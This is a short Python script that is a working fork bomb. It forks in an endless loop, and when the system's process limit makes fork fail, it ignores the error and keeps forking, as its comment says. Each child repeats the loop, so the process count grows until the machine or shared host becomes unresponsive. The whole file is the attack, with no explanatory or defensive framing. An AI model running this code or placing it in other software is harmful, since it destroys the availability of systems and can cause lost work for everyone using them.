import os

children = 0
while True:
    try:
        os.fork()
        children += 1
    except OSError:
        # The process limit answers: keep hammering instead of giving up.
        continue
